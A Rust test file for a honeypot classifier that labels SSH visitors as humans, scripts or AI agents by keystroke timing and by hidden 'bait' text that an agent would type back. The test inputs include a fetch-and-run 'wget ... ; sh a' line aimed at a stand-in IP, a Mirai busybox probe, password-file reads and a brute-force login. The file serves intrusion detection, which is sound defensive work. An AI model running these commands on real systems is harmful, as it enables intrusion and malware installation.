//! Visits that are clear cases, and bytes that mean nothing.

use std::time::Duration;

use proptest::prelude::*;
use wire::EventKind;

use super::*;

fn at(seconds: f64) -> Duration {
    Duration::from_secs_f64(seconds)
}

/// A person types this, with uneven gaps.
fn type_keys(watch: &mut Watch, clock: &mut f64, text: &str) {
    for (number, key) in text.bytes().enumerate() {
        *clock += 0.09 + 0.05 * ((number * 7 % 5) as f64);
        watch.keys(at(*clock), &[key]);
    }
    watch.keys(at(*clock + 0.2), b"\r");
    watch.event(at(*clock + 0.2), &EventKind::command_input(text.replace('\x7f', "").as_bytes()));
    *clock += 0.2;
}

fn lines(watch: &mut Watch, gaps: &[f64], lines: &[&str]) {
    let mut clock = 1.0;
    watch.event(at(0.5), &EventKind::LogOpen { ttylog: String::new() });
    for (line, gap) in lines.iter().zip(gaps.iter().cycle()) {
        clock += gap;
        watch.keys(at(clock), format!("{line}\n").as_bytes());
        watch.event(at(clock), &EventKind::command_input(line.as_bytes()));
    }
}

#[test]
fn who_types_key_by_key_and_corrects_is_human() {
    let (mut watch, mut clock) = (Watch::new(None), 1.0);
    watch.event(at(0.5), &EventKind::LogOpen { ttylog: String::new() });
    type_keys(&mut watch, &mut clock, "unmae\x7f\x7f\x7fame -a");
    clock += 4.0;
    type_keys(&mut watch, &mut clock, "cat /etc/passwd");
    let verdict = watch.verdict().unwrap();
    assert_eq!(verdict.label, Label::Human, "{verdict:?}");
    assert!(verdict.confidence > 0.5 && verdict.reasons[0].starts_with("typed key by key"), "{verdict:?}");
}

#[test]
fn a_program_that_types_for_show_is_a_script() {
    for gap in [0.002, 0.1] {
        let (mut watch, mut clock) = (Watch::new(None), 0.0);
        for key in b"wget http://192.0.2.1/a; sh a" {
            clock += gap;
            watch.keys(at(clock), &[*key]);
        }
        watch.event(at(clock), &EventKind::command_input(b"wget http://192.0.2.1/a; sh a"));
        assert_eq!(watch.verdict().unwrap().label, Label::Script, "keys {gap} s apart");
    }
}

#[test]
fn lines_faster_than_their_answers_can_be_read_are_a_script() {
    let mut watch = Watch::new(None);
    lines(&mut watch, &[0.05, 0.3, 0.1], &["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]);
    let verdict = watch.verdict().unwrap();
    assert_eq!(verdict.label, Label::Script, "{verdict:?}");
}

#[test]
fn lines_after_thought_are_an_agent_and_bait_proves_it() {
    let typed =
        ["id && uname -a", "ls -la /root 2>/dev/null | head -20", "cat /etc/os-release", "ps aux | head -5"];
    let mut watch = Watch::new(None);
    lines(&mut watch, &[3.1, 5.4, 2.2, 7.9], &typed);
    let without = watch.verdict().unwrap();
    assert_eq!(without.label, Label::Agent, "{without:?}");
    let bait = Bait::draw();
    assert!(bait.text().ends_with("\r\x1b[2K") && bait.text().contains(bait.word()));
    let mut watch = Watch::new(Some(bait.clone()));
    lines(&mut watch, &[0.05], &["id", bait.word(), "enable", "sh"]);
    let with = watch.verdict().unwrap();
    assert_eq!(with.label, Label::Agent, "even one in a hurry: {with:?}");
    assert!(with.reasons[0].contains("hidden text") && with.confidence > 0.4, "{with:?}");
    let mut other = Watch::new(Some(Bait::draw()));
    lines(&mut other, &[0.05], &["id", bait.word(), "enable", "sh"]);
    assert_eq!(other.verdict().unwrap().label, Label::Script, "another visit's word proves nothing");
}

#[test]
fn who_does_nothing_gets_no_label_and_who_guesses_is_a_script() {
    let mut watch = Watch::new(None);
    watch.event(at(0.0), &EventKind::SessionConnect {});
    assert_eq!(watch.verdict(), None);
    watch.event(at(1.0), &EventKind::login(false, b"root", b"123456"));
    assert_eq!(watch.verdict().unwrap().label, Label::Script);
}

proptest! {
    #[test]
    fn any_visit_is_judged_with_reasons(steps in proptest::collection::vec(
        (0u8..4, 0.0f64..100.0, proptest::collection::vec(any::<u8>(), 0..40)), 0..60))
    {
        let mut watch = Watch::new(Some(Bait::draw()));
        for (what, when, bytes) in steps {
            match what {
                0 | 1 => watch.keys(at(when), &bytes),
                2 => watch.event(at(when), &EventKind::command_input(&bytes)),
                _ => watch.event(at(when), &EventKind::command_failed(&bytes)),
            }
        }
        if let Some(verdict) = watch.verdict() {
            prop_assert!((0.0..=1.0).contains(&verdict.confidence) && !verdict.reasons.is_empty());
        }
    }
}
